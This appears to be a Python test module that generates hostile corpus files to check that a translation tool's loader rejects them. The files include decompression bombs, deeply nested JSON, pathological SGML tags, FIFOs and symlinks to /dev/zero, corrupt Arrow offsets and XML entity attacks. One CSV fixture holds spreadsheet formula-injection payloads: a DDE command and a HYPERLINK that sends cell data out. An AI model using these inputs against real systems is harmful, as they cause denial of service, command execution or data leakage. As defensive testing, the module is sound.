"""Hostile corpora by name, and what must become of them. tests/attacks/corpora has those that are text; the others are made by a function each."""

from __future__ import annotations

import bz2
import gzip
import json
import lzma
import os
import shutil
import struct
import zlib
from pathlib import Path

import datasets
import pyarrow
from pyarrow import parquet

from tests.conftest import ROOT
from translate.config import CorpusConfig

KEPT = ROOT / "tests" / "attacks" / "corpora"
SECRET = "s3cret-0f-another-file"
NAME = "data-00000-of-00001.arrow"
BLOCK = b"a" * (1 << 24)


def one_file(path: Path, data: bytes) -> CorpusConfig:
    path.write_bytes(data)
    kind = path.name.split(".")[1]
    return CorpusConfig("text", source=str(path), target=str(path)) if kind == "txt" else CorpusConfig(kind, str(path))


def gz_bomb(folder):
    """Two gigabytes in one line, as members of one gzip file; likewise below."""
    return one_file(folder / "a.txt.gz", gzip.compress(BLOCK) * 128)


def xz_bomb(folder):
    return one_file(folder / "a.jsonl.xz", lzma.compress(BLOCK, preset=0) * 128)


def bz2_bomb(folder):
    return one_file(folder / "a.tsv.bz2", bz2.compress(BLOCK) * 128)


def zst_bomb(folder):
    return one_file(folder / "a.csv.zst", pyarrow.Codec("zstd").compress(BLOCK, asbytes=True) * 128)


def gz_bomb_of_long_lines(folder):
    """Each just short enough to be a line: together they fill no memory."""
    line = gzip.compress(b"a" * (25 << 20) + b"\tb\n", 1)
    return one_file(folder / "a.tsv.gz", line * 17)


def gz_bomb_of_a_table_head(folder):
    """The delimiter is guessed from the first 20 lines."""
    return one_file(folder / "a.csv.gz", gzip.compress(b"a,b\n" + b"a" * (1 << 17)) + gzip.compress(BLOCK * 3 + b"\n", 1) * 20)


def gz_bomb_in_an_attribute(folder):
    return one_file(folder / "a.tmx.gz", gzip.compress(b'<tmx><tu><tuv xml:lang="') + gzip.compress(b"aaaaaaa\n" * (1 << 21)) * 100)


def gz_bomb_of_elements_in_elements(folder):
    return one_file(folder / "a.tmx.gz", gzip.compress(b"<tmx>") + gzip.compress(b"<a>\n" * (1 << 20)) * 100)


def gz_bomb_of_variants(folder):
    """Without text, which was all that was counted."""
    return one_file(folder / "a.tmx.gz", gzip.compress(b"<tmx><tu>") + gzip.compress(b'<tuv lang="%a"/>\n' % ("a" * 200) * (1 << 15)) * 100)


def xz_that_asks_for_gigabytes(folder):
    """An xz file of 68 bytes says that its dictionary has 4 GiB."""
    data = bytearray(lzma.compress(b"a\tb\n", filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 20}]))
    end = 12 + (data[12] + 1) * 4
    data[data.index(b"\x21\x01", 12) + 2] = 40
    data[end - 4 : end] = struct.pack("<I", zlib.crc32(data[12 : end - 4]))
    return one_file(folder / "a.tsv.xz", bytes(data))


def zst_that_asks_for_gigabytes(folder):
    return one_file(folder / "a.tsv.zst", b"\x28\xb5\x2f\xfd\x00\xff" + b"\x21\x00\x00a\tb\n")


def json_in_json(folder):
    return one_file(folder / "a.jsonl", b'{"de": ' * 100_000)


def json_in_json_of_another_key(folder):
    return one_file(folder / "a.jsonl", b'{"de": "a", "en": "b", "c": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")


def json_array_without_end(folder):
    """Its element was read again from the start with every block: minutes."""
    return one_file(folder / "a.jsonl", b'[{"de": "a", "c": [\n' + b"1, 2, 3, 4,\n" * 500_000)


def quote_without_end(folder):
    return one_file(folder / "a.csv", b'de,en\na,"b\n' + b"c,d\n" * 500_000)


def zeros_in_cells(folder):
    return one_file(folder / "a.tsv", b"a\0b\t\0c\n")


def zeros_alone(folder):
    return one_file(folder / "a.tsv", bytes(100_000))


def tag_of_spaces(folder):
    """The patterns for SGML took a time that grew with the square of such a line; so in the next two."""
    return sgm(folder, b"<" + b" " * 300_000)


def tag_without_end(folder):
    return sgm(folder, b"<" + b"a" * 300_000)


def attribute_without_value(folder):
    return sgm(folder, b"<seg " + b"a" * 300_000 + b">x</seg>")


def reference_to_a_huge_number(folder):
    return sgm(folder, b"<seg id=1>&#" + b"9" * 5000 + b";</seg>")


def sgm(folder, inside) -> CorpusConfig:
    path = folder / "a.sgm"
    path.write_bytes(b'<srcset><doc docid="a">' + inside + b"</doc></srcset>\n")
    return CorpusConfig("wmt", source=str(path), target=str(path))


def parquet_of_rubbish(folder):
    return one_file(folder / "a.parquet", b"PAR1" + b"\xff" * 1000 + b"PAR1")


def parquet_that_is_not_utf8(folder):
    text = pyarrow.array([b"\xff\xfe", b"a"]).view(pyarrow.string())
    parquet.write_table(pyarrow.table({"de": text, "en": ["a", "b"]}), folder / "a.parquet")
    return CorpusConfig("parquet", str(folder / "a.parquet"))


def parquet_bomb(folder):
    """440 MiB in one column of a file of some kilobytes."""
    text = pyarrow.DictionaryArray.from_arrays(pyarrow.array([0] * 110, pyarrow.int32()), ["a" * (1 << 22)])
    parquet.write_table(pyarrow.table({"de": text, "en": ["b"] * 110}), folder / "a.parquet", compression="zstd")
    return CorpusConfig("parquet", str(folder / "a.parquet"))


def parquet_folder_with_a_pipe(folder):
    os.mkfifo(folder / "a.parquet")
    return CorpusConfig("parquet", str(folder))


def endless_device(folder):
    return CorpusConfig("tsv", "/dev/zero")


def endless_device_as_lines(folder):
    return CorpusConfig("text", source="/dev/zero", target="/dev/zero")


def link_to_an_endless_device(folder):
    (folder / "a.jsonl").symlink_to("/dev/zero")
    return CorpusConfig("jsonl", str(folder / "a.jsonl"))


def link_to_itself(folder):
    (folder / "a.tsv").symlink_to("a.tsv")
    return CorpusConfig("tsv", str(folder / "a.tsv"))


def saved(folder) -> Path:
    if not (folder / "state.json").exists():
        datasets.Dataset.from_dict({"de": ["a", "b"], "en": ["c", "d"]}).save_to_disk(folder)
    return folder


def saved_set_with_a_pipe(folder):
    (saved(folder) / NAME).unlink()
    os.mkfifo(folder / NAME)
    return CorpusConfig("saved", str(folder))


def saved_set_of_an_endless_device(folder):
    (saved(folder) / NAME).unlink()
    (folder / NAME).symlink_to("/dev/zero")
    return CorpusConfig("saved", str(folder))


def saved_set_in_itself(folder):
    (saved(folder) / "again").symlink_to(".")
    return CorpusConfig("saved", str(folder))


def saved_set_with_offsets_out_of_the_file(folder):
    """pyarrow would follow them, and the process end."""
    data = (saved(folder) / NAME).read_bytes()
    (folder / NAME).write_bytes(data.replace(struct.pack("<3i", 0, 1, 2), struct.pack("<3i", 0, 1 << 30, (1 << 31) - 1)))
    return CorpusConfig("saved", str(folder))


def saved_set_of_deep_json(folder):
    (saved(folder) / "dataset_info.json").write_text('{"features": ' * 100_000)
    return CorpusConfig("saved", str(folder))


LONG, NOT_SAVED, ENTITY = "more than 64 MiB", "as a folder written by save_to_disk", "rejected, as entities"
MADE = {  # function -> a part of the message; or the pairs, which show that it is harmless
    gz_bomb: LONG, xz_bomb: LONG, bz2_bomb: LONG, zst_bomb: LONG, gz_bomb_of_long_lines: [["a" * 40, "b"]] * 2,
    gz_bomb_of_a_table_head: "no column 'de'", gz_bomb_in_an_attribute: "a tag or comment of more than 4 MiB",
    gz_bomb_of_elements_in_elements: "deep",
    gz_bomb_of_variants: "a <tu> of more than 16 MiB", xz_that_asks_for_gigabytes: "memory", zst_that_asks_for_gigabytes: "damaged",
    json_in_json: "line 1: not valid JSON",
    json_in_json_of_another_key: "line 1: not valid JSON", json_array_without_end: "line 1: not valid JSON", quote_without_end: "not valid CSV",
    zeros_in_cells: [["a\0b", "\0c"]], zeros_alone: "column 2", tag_of_spaces: "empty", tag_without_end: "empty",
    attribute_without_value: [["x", "x"]], reference_to_a_huge_number: [["\ufffd", "\ufffd"]], parquet_of_rubbish: "Parquet",
    parquet_that_is_not_utf8: "UTF8", parquet_bomb: [["a" * 40, "b"]] * 2, parquet_folder_with_a_pipe: "a pipe or a device",
    endless_device: "is a device",
    endless_device_as_lines: "is a device", link_to_an_endless_device: "is a device", link_to_itself: "symbolic links",
    saved_set_with_a_pipe: "a pipe or a device", saved_set_of_an_endless_device: "a pipe or a device", saved_set_in_itself: [["a", "c"], ["b", "d"]],
    saved_set_with_offsets_out_of_the_file: "damaged", saved_set_of_deep_json: NOT_SAVED,
}  # fmt: skip
FILES = {
    "billion_laughs.tmx": ENTITY, "billion_laughs.xml": ENTITY, "entity_of_a_file.tmx": ENTITY, "entity_of_a_file.xml": ENTITY,
    "entity_of_the_network.tmx": ENTITY, "entity_of_a_file.sgm": [["&secret;", "&secret;"]], "definition_in_a_file.tmx": [["a", "x"]],
    "numbers_without_end.jsonl": "not valid JSON", "half_a_surrogate.jsonl": "surrogate", "keys_of_python.jsonl": "must be text",
    "formulas.csv": [["=cmd|'/C touch canary'!A0", '=HYPERLINK("http://127.0.0.1:9/?"&A1)']],
    "saved_names_a_module.dataset_info.json": NOT_SAVED, "saved_names_a_function.dataset_info.json": NOT_SAVED,
    "saved_names_a_target.dataset_info.json": NOT_SAVED, "saved_names_a_script.dataset_info.json": [["a", "c"], ["b", "d"]],
    "saved_reads_outside.state.json": "not in that folder", "saved_reads_from_the_root.state.json": "not in that folder",
    "saved_format_is_code.state.json": NOT_SAVED, "saved_split_is_outside.dataset_dict.json": "not in that folder",
}  # fmt: skip


def kept(name: str, folder: Path) -> CorpusConfig:
    """The corpus of a kept file; of a JSON file a saved data set with these entries in its own."""
    if not name.endswith(".json"):
        path = Path(shutil.copy(KEPT / name, folder))
        kind = {".xml": "wmt"}.get(path.suffix, path.suffix[1:])
        return CorpusConfig("wmt", source=str(path), target=str(path)) if kind == "sgm" else CorpusConfig(kind, str(path))
    changed = folder / name.split(".", 1)[1]
    if changed.name == "dataset_dict.json":
        datasets.DatasetDict({"train": datasets.load_from_disk(folder.parent / "secret")}).save_to_disk(folder)
    values = json.loads((changed if changed.exists() else saved(folder) / changed.name).read_bytes())
    changed.write_text(json.dumps({**values, **json.loads((KEPT / name).read_text())}))
    return CorpusConfig("saved", str(folder))
